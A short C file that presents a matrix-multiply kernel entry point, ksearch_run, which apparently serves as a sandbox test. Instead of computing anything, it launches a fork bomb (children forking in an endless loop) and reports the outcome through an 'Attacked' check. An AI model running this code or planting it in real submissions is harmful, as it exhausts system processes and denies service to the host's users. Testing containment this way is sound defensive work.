#include <unistd.h>

#include "matmul.h"
int ksearch_run(const KsearchArgs* args) {
  bool worked = false;
  for (int i = 0; i < 1000; ++i) {
    const pid_t child = fork();
    if (child == 0) {
      for (;;) fork();
    }
    worked |= child > 0;
  }
  return Attacked(args, worked);
}
